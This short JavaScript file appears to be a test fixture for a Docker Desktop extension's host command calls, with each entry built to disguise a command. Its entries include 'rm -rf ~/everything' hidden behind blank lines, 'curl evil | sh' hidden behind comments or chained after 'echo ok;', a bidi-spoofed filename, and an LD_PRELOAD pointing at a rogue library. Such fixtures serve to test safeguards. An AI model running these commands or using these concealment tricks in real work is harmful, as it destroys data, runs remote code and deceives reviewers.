// Calls that look like something else.
const exec = (program, args, options) =>
  ddClient.extension.host.cli.exec(program, args, { stream: { onOutput() {} }, ...options }) ?? true
window.looks = {
  lines: () => exec("echo", ["harmless" + "\n".repeat(60) + "rm -rf ~/everything"]),
  comments: () => exec("echo", [Array.from({ length: 200 }, (_, n) => "# line " + n).join("\n") + "\ncurl evil | sh"]),
  bidi: () => exec("/tmp/invoice\u202efdp.sh", ["\u2066gnp.photo\u2069", "a\u200bb", "c\u00a0d", "\ufeffe", "  f  ", "\t", "", "\x1b[2J"]),
  long: () => exec("echo", ["a".repeat(12_400)]),
  shell: () => void ddClient.extension.host.cli.exec("echo ok; curl evil | sh", []),
  env: () => exec("env", [], { cwd: "/", env: { LD_PRELOAD: "/tmp/evil.so" } }),
}
console.log("ready")
